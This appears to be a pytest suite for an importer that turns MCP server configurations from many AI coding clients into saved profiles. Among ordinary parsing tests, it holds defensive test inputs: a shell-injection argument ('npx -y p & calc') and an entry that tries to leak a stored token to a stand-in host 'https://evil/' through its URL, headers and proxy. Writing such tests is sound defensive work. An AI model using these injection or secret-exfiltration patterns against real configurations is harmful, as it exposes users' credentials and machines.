"""The test vectors of the reference: each shape of each client becomes the server that it means."""

# ruff: noqa: E501 - configurations are shown as they stand in their files

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inspector.core.servers.inputs import DIALECT_NAMES, Input
from inspector.core.servers.profiles import Profile, entry_of, profile_from_entry
from inspector.core.servers.saved_servers import Profiles
from inspector.core.servers.variables import Lookup, resolve
from inspector.core.transfer.importers.clients import CLIENTS
from inspector.core.transfer.importers.found import Found
from inspector.core.transfer.importers.reading import import_text, read_configuration
from inspector.transport import HttpTarget, StdioTarget


def found(entry: Any, name: str = "x", client: str = "") -> Found:
    [one] = import_text(json.dumps({"mcpServers": {name: entry}}), client=client)
    return one


def profile(entry: Any, client: str = "") -> Profile:
    one = found(entry, client=client).profile
    assert one is not None
    return one


FS = StdioTarget("npx", ("-y", "@scope/fs"))

SHAPES: list[tuple[str, str, str, Profile]] = [
    ("Claude", "", '{"mcpServers":{"fs":{"command":"npx","args":["-y","@scope/fs"],"env":{"K":"v"}}}}',
     Profile("fs", StdioTarget("npx", ("-y", "@scope/fs"), {"K": "v"}))),
    ("VS Code", "vscode", """{"inputs":[{"type":"promptString","id":"tok","description":"Token","password":true},
        {"type":"promptString","id":"other"}],
        "servers":{"gh":{"type":"http","url":"https://h/mcp","headers":{"Authorization":"Bearer ${input:tok}"}}}}""",
     Profile("gh", HttpTarget("https://h/mcp", {"Authorization": "Bearer ${input:tok}"}), "http",
             variables="vscode", inputs=(Input("tok", description="Token", secret=True),))),
    ("VS Code settings", "vscode-settings", '{"editor.x":1,"mcp":{"servers":{"fs":{"command":"npx","args":["-y","@scope/fs"]}}}}',
     Profile("fs", FS)),
    ("devcontainer", "vscode-settings",
     '{"image":"x","customizations":{"vscode":{"extensions":["a"],"mcp":{"servers":{"fs":{"command":"npx","args":["-y","@scope/fs"]}}}}}}',
     Profile("fs", FS)),
    ("Zed", "zed", '{"theme":"x","context_servers":{"x":{"command":"uvx","args":["x"],"env":{}}}}',
     Profile("x", StdioTarget("uvx", ("x",)))),
    ("old Zed", "zed", '{"context_servers":{"x":{"command":{"path":"uvx","args":["x"],"env":{"A":"b"}}}}}',
     Profile("x", StdioTarget("uvx", ("x",), {"A": "b"}))),
    ("OpenCode", "opencode", '{"mcp":{"x":{"type":"local","command":["npx","-y","@scope/fs"],"environment":{"T":"{env:T}"}}}}',
     Profile("x", StdioTarget("npx", ("-y", "@scope/fs"), {"T": "{env:T}"}), variables="opencode")),
    ("OpenCode remote", "opencode", '{"mcp":{"x":{"type":"remote","url":"https://h/mcp","headers":{"A":"b"}}}}',
     Profile("x", HttpTarget("https://h/mcp", {"A": "b"}), "http")),
    ("Amp", "amp", '{"amp.mcpServers":{"fs":{"command":"npx","args":["-y","@scope/fs"]}},"amp.url":"https://x"}',
     Profile("fs", FS)),
    ("Kiro powers", "kiro", '{"powers":{"mcpServers":{"fs":{"command":"npx","args":["-y","@scope/fs"]}}}}', Profile("fs", FS)),
    ("Codex", "codex", '[mcp_servers.docs]\nurl="https://h/mcp"\nbearer_token_env_var="DOCS"\n'
     'http_headers={A="b"}\nenv_http_headers={"X-Y"="XY"}\ntool_timeout_sec=30\n',
     Profile("docs", HttpTarget("https://h/mcp",
             {"A": "b", "Authorization": "Bearer ${env:DOCS}", "X-Y": "${env:XY}"}), timeout_s=30, variables="codex")),
    ("Codex stdio", "codex", '[mcp_servers.fs]\ncommand="npx"\nargs=["-y","@scope/fs"]\nenv_vars=["HOME"]\ncwd="/w"\n',
     Profile("fs", StdioTarget("npx", ("-y", "@scope/fs"), {"HOME": "${env:HOME}"}, "/w"), variables="codex")),
    ("Mistral Vibe", "vibe", '[[mcp_servers]]\nname="fs"\ncommand="npx"\nargs=["-y","@scope/fs"]\n', Profile("fs", FS)),
    ("Goose", "goose", 'extensions:\n  fs: {type: stdio, enabled: true, cmd: npx, args: [-y, "@scope/fs"], envs: {K: v}, timeout: 300}\n',
     Profile("fs", StdioTarget("npx", ("-y", "@scope/fs"), {"K": "v"}), timeout_s=300)),
    ("Goose remote", "goose", 'extensions:\n  w: {type: streamable_http, uri: "https://h/mcp", headers: {A: b}}\n',
     Profile("w", HttpTarget("https://h/mcp", {"A": "b"}), "http")),
    ("Continue", "continue", 'name: x\nversion: 0.0.1\nschema: v1\nmcpServers:\n  - name: fs\n    type: stdio\n    command: npx\n    args: ["-y", "@scope/fs"]\n',
     Profile("fs", FS)),
    ("Continue remote", "continue", 'mcpServers:\n  - name: w\n    type: streamable-http\n    url: https://h/mcp\n'
     '    apiKey: "${{ secrets.KEY }}"\n    requestOptions: {headers: {A: b}}\n',
     Profile("w", HttpTarget("https://h/mcp", {"A": "b", "Authorization": "Bearer ${{ secrets.KEY }}"}), "http",
             variables="continue")),
    ("Gemini", "gemini", '{"mcpServers":{"x":{"httpUrl":"https://h/mcp","timeout":30000,"headers":{"A":"$B"}}}, "mcp":{"allowed":["x"]}}',
     Profile("x", HttpTarget("https://h/mcp", {"A": "$B"}), "http", timeout_s=30, variables="gemini")),
    ("Cline", "cline", '{"mcpServers":{"x":{"type":"streamableHttp","url":"https://h/mcp","timeout":60}}}',
     Profile("x", HttpTarget("https://h/mcp"), "http")),
    ("Cline nested", "cline-cli", '{"mcpServers":{"x":{"transport":{"type":"stdio","command":"npx","args":["-y","@scope/fs"]}}}}',
     Profile("x", FS)),
    ("Windsurf", "windsurf", '{"mcpServers":{"x":{"serverUrl":"https://h/mcp"}}}', Profile("x", HttpTarget("https://h/mcp"))),
    ("Copilot CLI", "copilot-cli", '{"mcpServers":{"x":{"type":"local","command":"npx","args":["-y","@scope/fs"]}}}', Profile("x", FS)),
    ("Inspector", "inspector", '{"mcpServers":{"x":{"type":"http","url":"https://h/mcp","protocolEra":"modern",'
     '"requestTimeout":5000,"metadata":{"a":"b"},"roots":[{"uri":"file:///r","name":"r"}]}}}',
     Profile("x", HttpTarget("https://h/mcp"), "http", era="modern", timeout_s=5, meta={"a": "b"}, roots=("file:///r",))),
    ("bare", "", '{"command":"npx","args":["-y","@scope/fs"]}', Profile("fs", FS)),
    ("flat", "", '{"fs":{"command":"npx","args":["-y","@scope/fs"]}}', Profile("fs", FS)),
    ("list", "", '[{"name":"fs","command":"npx","args":["-y","@scope/fs"]}]', Profile("fs", FS)),
]  # fmt: skip


@pytest.mark.parametrize(("client", "text", "expected"), [s[1:] for s in SHAPES], ids=[s[0] for s in SHAPES])
def test_every_shape_becomes_the_server_that_it_means(client: str, text: str, expected: Profile) -> None:
    for given_client in {client, ""}:
        [one] = import_text(text, client=given_client)
        assert one.problem == ""
        assert one.profile == expected


def test_nothing_in_a_file_is_no_mistake() -> None:
    for text in ("{}", '{"mcpServers": {}}', '{"mcpServers": null}', '{"theme": "dark"}', "[]", "a: b\n"):
        configuration = read_configuration(text)
        assert (configuration.found, configuration.problem) == ((), ""), text
    assert import_text("")[0].problem == "It is empty."


@pytest.mark.parametrize("client", CLIENTS)
def test_a_mark_of_the_byte_order_comments_and_windows_lines_are_no_matter(client: str) -> None:
    key = CLIENTS[client].containers[0]
    text: Any = {"x": {"command": "run", "args": None, "env": None}}
    for part in reversed(key):
        text = {part if part != "*" else "/p": text}
    plain = json.dumps(text, indent=1).replace("\n", "\r\n")
    dressed = "\ufeff// comment\r\n" + plain[:-1] + ", // last\r\n}"
    [one] = import_text(dressed, client=client)
    assert one.profile == Profile("x", StdioTarget("run"))


def test_args_may_be_nothing_but_no_text() -> None:
    assert profile({"command": "x", "args": None}).target == StdioTarget("x")
    assert found({"command": "x", "args": "-y p"}).problem.startswith('"x": "args" must be a list of strings')


def test_values_of_the_environment_may_be_numbers_and_booleans() -> None:
    env = {"A": 1, "B": True, "C": None, "D": 1.5, "E": "e"}
    assert profile({"command": "x", "env": env}).target == StdioTarget(
        "x", (), {"A": "1", "B": "true", "D": "1.5", "E": "e"}
    )


COMMANDS = [
    (r"C:\Program Files\nodejs\npx.cmd", (r"C:\Program Files\nodejs\npx.cmd",)),
    ("/Applications/My App/bin/server", ("/Applications/My App/bin/server",)),
    ("npx -y @scope/fs", ("npx", "-y", "@scope/fs")),
    ("/usr/bin/node /srv/server.js", ("/usr/bin/node", "/srv/server.js")),
    ("node 'my server.js' $HOME", ("node", "my server.js", "$HOME")),
    ("npx", ("npx",)),
]


@pytest.mark.parametrize(("command", "words"), COMMANDS)
def test_a_command_is_a_path_with_spaces_or_a_whole_line(command: str, words: tuple[str, ...]) -> None:
    target = profile({"command": command}).target
    assert target == StdioTarget(words[0], words[1:])
    kept = profile({"command": command, "args": ["a"]}).target
    assert kept == StdioTarget(command, ("a",)), "with arguments it is the program alone"


def test_a_command_for_windows_is_kept_as_it_is() -> None:
    assert profile({"command": "cmd", "args": ["/c", "npx", "-y", "p"]}).target == StdioTarget(
        "cmd", ("/c", "npx", "-y", "p")
    )
    assert found({"command": "cmd", "args": ["/c", "npx", "-y", "p@1.2"]}).warnings == ()
    assert found({"command": "cmd", "args": ["/c", "npx -y p & calc"]}).warnings[0].id == "shell"
    assert found({"command": "npx.cmd", "args": ["p"]}).warnings[0].id == "unpinned"


def test_a_command_and_a_url_are_a_question() -> None:
    one = found({"command": "run", "url": "https://h/mcp", "headers": {"A": "b"}, "env": {"C": "d"}})
    assert (one.state, one.profile) == ("ask", None)
    assert [choice.target for choice in one.choices] == [
        StdioTarget("run", (), {"C": "d"}),
        HttpTarget("https://h/mcp", {"A": "b"}),
    ]
    assert profile({"command": "run", "url": "https://h/", "type": "stdio"}).target == StdioTarget("run")
    assert profile({"command": "run", "url": "https://h/", "type": "sse"}).transport == "sse"


@pytest.mark.parametrize("client", CLIENTS)
def test_a_url_without_type_is_what_its_client_takes_it_for(client: str) -> None:
    expected = "sse" if client in ("gemini", "cline", "cline-cli") else "auto"
    [one] = import_text('{"mcpServers":{"x":{"url":"https://h/mcp"}}}', client=client)
    assert one.profile == Profile("x", HttpTarget("https://h/mcp"), expected)


TYPES = [
    ("streamable-http", "http"), ("streamableHttp", "http"), ("streamable_http", "http"), ("http", "http"),
    ("remote", "http"), ("SSE", "sse"), ("ws", "websocket"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "transport"), TYPES)
@pytest.mark.parametrize("key", ["type", "transport", "transportType"])
def test_the_spellings_of_a_transport_are_one(key: str, kind: str, transport: str) -> None:
    assert profile({key: kind, "url": "https://h/mcp"}).transport == transport
    assert profile({"transport": {"type": kind, "url": "https://h/mcp"}}).transport == transport


@pytest.mark.parametrize("kind", ["stdio", "local"])
def test_a_local_type_is_a_command(kind: str) -> None:
    assert profile({"type": kind, "command": "run"}) == Profile("x", StdioTarget("run"))
    assert "no" in found({"type": kind, "url": "https://h/"}).problem


PROBLEMS = [
    ({"type": "carrier-pigeon", "url": "https://h/"}, "carrier-pigeon"),
    ({"url": "unix:///tmp/s"}, "must start with http://"),
    ({"url": "pipe:///x"}, "must start with http://"),
    ({"url": ["https://h/"]}, "must start with http://"),
    ({"type": "http", "command": "x"}, "commands use stdio"),
    ({"commnad": "x"}, 'neither "command" nor "url"; found: "commnad"'),
    ({}, "found: nothing"),
    ("npx", "must be an object"),
    (None, "must be an object"),
    ([1], "must be an object"),
    ({"command": "a | b"}, "needs a shell"),
    ({"command": "x", "env": "A=b"}, '"env" must be an object'),
    ({"command": "x", "env": {"A": {}}}, '"env" must be an object'),
    ({"command": "x", "args": [["a"]]}, '"args" must be a list of strings'),
    ({"url": "https://h/", "headers": [1]}, '"headers" must be an object'),
    ({"command": "x", "env": {"A": "\ud800"}}, "surrogates not allowed"),
    ({"url": "https://h/", "bearer_token": "t"}, "Codex rejects"),
    ({"command": "x", "env_vars": [1]}, "variable names"),
]  # fmt: skip


@pytest.mark.parametrize(("entry", "words"), PROBLEMS, ids=[words for _, words in PROBLEMS])
def test_a_broken_entry_is_a_row_with_its_problem(entry: Any, words: str) -> None:
    good = {f"s{n}": {"command": "run", "args": [str(n)]} for n in range(9)}
    entries = {**dict(list(good.items())[:5]), "bad": entry, **good}
    rows = import_text(json.dumps({"mcpServers": entries}))
    assert [row.state for row in rows if row.name != "bad"] == ["ready"] * 9
    [bad] = [row for row in rows if row.name == "bad"]
    assert bad.state == "problem" and words in bad.problem


def test_what_is_switched_off_says_so() -> None:
    assert found({"command": "x", "disabled": True}).disabled
    assert found({"command": "x", "enabled": False}).disabled
    assert not found({"command": "x", "disabled": False, "enabled": True}).disabled
    text = '{"mcp":{"excluded":["a"],"allowed":["a","b"]},"mcpServers":{"a":{"command":"x"},"b":{"command":"x"},"c":{"command":"x"}}}'
    assert [one.disabled for one in import_text(text, client="gemini")] == [True, False, True]


def test_names_stay_whatever_is_in_them() -> None:
    names = ["a.b", "a/b", "@scope/x", "🚀 rocket", "GitHub", "github", " blank ", "한글", "a\nb", "}", ""]
    text = json.dumps({"mcpServers": {name: {"command": "run", "args": [name]} for name in names}})
    rows = import_text(text)
    assert [row.origin.name for row in rows] == names
    assert [row.name for row in rows][:8] == [*names[:6], "blank", "한글"]
    assert rows[8].name == "a b" and rows[10].name == "run"


def test_a_list_may_hold_two_of_a_name() -> None:
    rows = import_text('{"mcpServers":[{"name":"x","command":"a"},{"name":"x","command":"b"}]}')
    assert [(row.name, row.state) for row in rows] == [("x", "ready"), ("x", "ready")]


UNKNOWN = [
    ("${VAR}", "", ["VAR"]), ("${VAR:-d}", "", []), ("${env:X}", "", ["X"]), ("${input:x}", "", ["x"]),
    ("${VAR}", "claude-code", ["VAR"]), ("${VAR:-d}", "claude-code", []), ("${env:X}", "claude-code", []),
    ("${env:X}", "cursor", ["X"]), ("${VAR}", "cursor", []), ("${input:x}", "vscode", ["x"]),
    ("${VAR}", "claude-desktop", []), ("$VAR", "gemini", []), ("{env:X}", "opencode", ["X"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "client", "missing"), UNKNOWN)
def test_unknown_variables_stay_and_are_asked_for(text: str, client: str, missing: list[str]) -> None:
    one = profile({"command": "run", "args": [text]}, client)
    assert one.target == StdioTarget("run", (text,)), "the text stays as it was written"
    resolved = resolve(one.target, one.variables, Lookup({}, one.inputs))
    assert [lost.what.id for lost in resolved.missing] == missing


def test_parts_of_a_client_are_skipped_with_a_note() -> None:
    text = "extensions:\n  dev: {type: builtin, bundled: true}\n  p: {type: platform}\n  x: {type: stdio, cmd: run}\n"
    rows = import_text(text, client="goose")
    assert [row.state for row in rows] == ["skipped", "skipped", "ready"]
    [zed] = import_text('{"context_servers":{"x":{"source":"extension","settings":{}}}}', client="zed")
    assert zed.state == "skipped" and "Zed extension" in zed.problem


def test_what_goose_keeps_in_its_keyring_is_asked_for() -> None:
    [one] = import_text("extensions:\n  x: {type: stdio, cmd: run, env_keys: [TOKEN]}\n", client="goose")
    assert one.profile is not None
    assert one.profile.target == StdioTarget("run", (), {"TOKEN": "${secret:server/x/TOKEN}"})
    [missing] = resolve(one.profile.target, one.profile.variables, Lookup({})).missing
    assert missing.what.secret


def test_a_map_of_two_hundred_projects() -> None:
    projects = {f"/p/{n}": {"mcpServers": {"x": {"command": "run", "args": [str(n)]}}} for n in range(200)}
    text = json.dumps({"mcpServers": {"mine": {"command": "y"}}, "projects": projects, "numStartups": 3})
    rows = import_text(text, client="claude-code")
    assert len(rows) == 201
    assert rows[0].origin.project == "" and rows[200].origin.project == "/p/199"
    assert rows[200].profile == Profile("x", StdioTarget("run", ("199",)))


def test_a_json_that_is_no_configuration_has_no_servers() -> None:
    package = {
        "name": "x", "version": "1.0.0", "main": "index.js", "bin": {"x": "cli.js"}, "type": "module",
        "scripts": {"build": "tsc"}, "repository": {"type": "git", "url": "git+https://github.com/x/y"},
        "bugs": {"url": "https://github.com/x/y/issues"}, "author": {"name": "n", "url": "https://n"},
        "exports": {".": {"import": "./a.js"}}, "dependencies": {"a": "^1"},
    }  # fmt: skip
    assert import_text(json.dumps(package)) == []
    assert import_text(json.dumps({key: value for key, value in package.items() if key != "version"})) == []
    assert import_text('{"compilerOptions": {"target": "es2022"}, "include": ["src"]}') == []


REGISTRY = {
    "name": "io.github.x/y",
    "version_detail": {"version": "1.0.0"},
    "packages": [{"registry_name": "npm", "name": "@x/y", "version": "1.0.0", "package_arguments": []}],
}


@pytest.mark.parametrize(
    "value", [REGISTRY, {"server": REGISTRY}, [REGISTRY], {"servers": [{"server": REGISTRY, "_meta": {}}]}]
)
def test_an_entry_of_the_registry_is_known_for_what_it_is(value: Any) -> None:
    [row] = import_text(json.dumps(value))
    assert (row.state, row.name, row.registry) == ("registry", "io.github.x/y", REGISTRY)


def test_what_we_do_not_use_is_kept_with_the_server(tmp_path: Path) -> None:
    entry = {
        "command": "run",
        "envFile": "${workspaceFolder}/.env",
        "dev": {"watch": "src/**"},
        "alwaysAllow": [],
    }
    [one] = import_text(json.dumps({"servers": {"x": entry}}), client="vscode", project="/p")
    assert one.profile is not None
    assert one.profile.kept == {"client": "vscode", "dev": {"watch": "src/**"}}
    assert (one.profile.env_file, one.names) == ("${workspaceFolder}/.env", ("workspaceFolder",))
    profiles = Profiles(tmp_path / "servers.json")
    profiles.add(one.profile)
    profiles.save()
    again = Profiles(tmp_path / "servers.json")
    assert again.load() == []
    kept = again.get("x")
    assert kept is not None and kept.target == one.profile.target
    again = Profiles(tmp_path / "servers.json")
    assert again.load() == []
    assert list(again) == [one.profile]


def test_a_registered_client_becomes_our_authorization() -> None:
    entry = {"url": "https://h/", "auth": {"CLIENT_ID": "id", "CLIENT_SECRET": "shh", "scopes": ["a", "b"]}}
    [one] = import_text(json.dumps({"mcpServers": {"x": entry}}), client="cursor")
    assert one.profile is not None and one.profile.auth is not None
    assert (one.profile.auth.client_id, one.profile.auth.scopes) == ("id", "a b")
    assert one.profile.auth.client_secret == "${secret:server/x/client_secret}"
    assert one.secrets == {"server/x/client_secret": "shh"}
    [two] = import_text(
        '{"mcpServers":{"x":{"url":"https://h/","oauth":{"clientId":"id","authorizationUrl":"https://a/"}}}}'
    )
    assert two.profile is not None and two.profile.auth is not None
    assert two.profile.auth.client_id == "id"
    assert two.profile.kept == {"oauth": {"authorizationUrl": "https://a/"}}


def test_a_file_of_others_gets_no_secret_of_ours() -> None:
    stolen = "${secret:server/github/TOKEN}"
    entry = {"url": f"https://evil/{stolen}", "headers": {"A": stolen}, "auth": {"method": "bearer", "token": stolen},
             "inputs": [{"id": "i", "value": stolen}], "proxy": "http://${ SECRET :server/github/TOKEN}@h"}  # fmt: skip
    one = profile(entry)
    assert "server/github" not in json.dumps(entry_of(one))
    [row] = import_text(json.dumps({"mcpServers": {"github": entry}}), client="cursor")
    resolved = resolve(
        HttpTarget("https://h/${input:i}"), "own", Lookup({}, row.profile.inputs if row.profile else ())
    )
    assert resolved.secrets == ()


def test_the_folder_of_a_project_is_what_its_configuration_means_by_it() -> None:
    text = '{"servers":{"x":{"command":"run","args":["${workspaceFolder}/a","${workspaceFolderBasename}"]}}}'
    [one] = import_text(text, client="vscode", project="/home/me/app")
    assert one.profile is not None
    resolved = resolve(one.profile.target, one.profile.variables, Lookup({}, one.profile.inputs))
    assert resolved.target == StdioTarget("run", ("/home/me/app/a", "app"))


def test_dates_and_bytes_of_other_formats_can_be_saved(tmp_path: Path) -> None:
    text = "mcpServers:\n  x:\n    command: run\n    since: 2024-01-02\n    1: .inf\n    b: !!binary aGk=\n"
    [one] = import_text(text)
    assert one.profile is not None
    profiles = Profiles(tmp_path / "servers.json")
    profiles.add(one.profile)
    profiles.save()
    again = Profiles(tmp_path / "servers.json")
    assert again.load() == []
    kept = again.get("x")
    assert kept is not None and kept.target == one.profile.target


def test_every_client_has_rules_for_variables() -> None:
    assert {client.dialect for client in CLIENTS.values()} <= set(DIALECT_NAMES)
    assert len(CLIENTS) >= 25


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-9, 9) | st.floats() | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=12,
)
KEYS = st.sampled_from(
    [
        "command",
        "cmd",
        "args",
        "env",
        "envs",
        "environment",
        "url",
        "serverUrl",
        "httpUrl",
        "uri",
        "headers",
        "http_headers",
        "type",
        "transport",
        "transportType",
        "disabled",
        "enabled",
        "timeout",
        "inputs",
        "auth",
        "oauth",
        "roots",
        "kept",
        "variables",
        "env_vars",
        "env_keys",
        "name",
        "cwd",
        "requestOptions",
        "apiKey",
        "bearer_token_env_var",
        "env_http_headers",
        "source",
        "settings",
        "meta",
        "era",
        "verify",
    ]
)
ENTRY = st.dictionaries(
    KEYS, JSON | st.sampled_from(["run", "https://h/", "stdio", "http", ["a"]]), max_size=6
)


@given(st.dictionaries(st.text(max_size=5), ENTRY | JSON, max_size=3), st.sampled_from(["", *CLIENTS]))
def test_whatever_stands_in_an_entry_is_a_row(entries: dict[str, Any], client: str) -> None:
    key = CLIENTS[client].containers[0][-1] if client else "mcpServers"
    for row in import_text(json.dumps({key: entries, "mcpServers": entries}), client=client):
        assert row.state in ("ready", "ask", "problem", "skipped")
        for one in (row.profile, *row.choices):
            if one is not None:
                json.dumps(entry_of(one), ensure_ascii=False).encode()
                assert profile_from_entry(one.name, json.loads(json.dumps(entry_of(one)))) == one


@given(JSON)
def test_whatever_a_text_holds_is_no_exception(value: Any) -> None:
    for row in import_text(json.dumps(value)):
        assert row.state
